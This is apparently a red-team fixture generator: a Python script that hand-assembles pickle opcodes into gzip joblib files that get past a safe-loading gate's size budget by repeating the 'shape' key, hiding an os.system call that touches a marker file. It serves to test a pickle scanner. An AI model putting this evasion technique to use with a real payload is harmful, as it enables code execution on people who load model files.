"""joblib files whose array wrapper comes after a container large enough to pass the gate's
retention budget (262144 items), where a small dict keeps only its first 8 entries. The attack
repeats 'shape' in the wrapper's state: BUILD lets the last one win, so joblib reads 8 bytes of
array data and then unpickles on, while a reading that kept the first shape skips 8000 bytes.

Run with Debian's python3 (joblib 1.2): python3 make_budget_fixtures.py [--prove]
Attack payload: os.system('touch /tmp/safeload-redteam-pwned'). Files are gzip-compressed
(joblib.load decompresses them) to stay small.
"""
import gzip, os, sys

MARK = '/tmp/safeload-redteam-pwned'
HERE = os.path.dirname(os.path.abspath(__file__))


def u(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b'\x8c' + bytes([len(b)]) + b


def build(repeated_shape, evil):
    out = bytearray(b'\x80\x04]')
    for _ in range(5):
        out += b'(' + b')' * 60000 + b'e'
    out += u('joblib.numpy_pickle') + u('NumpyArrayWrapper') + b'\x93)\x81}('
    out += u('dtype') + u('numpy') + u('dtype') + b'\x93' + u('f8') + b'\x89\x88\x87R'
    out += b'(K\x03' + u('<') + b'NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb'
    out += u('shape') + (b'M\xe8\x03\x85' if repeated_shape else b'K\x01\x85')
    out += u('subclass') + u('numpy') + u('ndarray') + b'\x93'
    out += u('order') + u('C') + u('allow_mmap') + b'\x89'
    out += u('j1') + b'K\x00' + u('j2') + b'K\x00' + u('j3') + b'K\x00'
    if repeated_shape:
        out += u('shape') + b'K\x01\x85'  # the one joblib uses
    out += b'ub'
    if not repeated_shape:
        return bytes(out + b'\0' * 8 + b'\x86.')
    data = bytearray(b'.' + b'\0' * 7999)  # byte 0 '.': plain pickle.load stops here
    cmd = ('touch ' + MARK).encode()
    hidden = (u('os') + u('system') + b'\x93\x8c' + bytes([len(cmd)]) + cmd + b'\x85R0' if evil else b'') + b'\x86.'
    data[8:8 + len(hidden)] = hidden
    return bytes(out + data + b'\x86.')


for name, args in [('budget_repeated_shape.joblib.gzip', (True, True)),
                   ('budget_large_vocabulary_twin.joblib.gzip', (False, False))]:
    with gzip.GzipFile(os.path.join(HERE, name), 'wb', mtime=0) as g:
        g.write(build(*args))

if '--prove' in sys.argv:
    import joblib
    for name in ['budget_repeated_shape.joblib.gzip', 'budget_large_vocabulary_twin.joblib.gzip']:
        if os.path.exists(MARK):
            os.remove(MARK)
        r = joblib.load(os.path.join(HERE, name))
        print(f'{name:44s} payload ran={os.path.exists(MARK)} -> list of {len(r[0])}, {r[1]!r}')
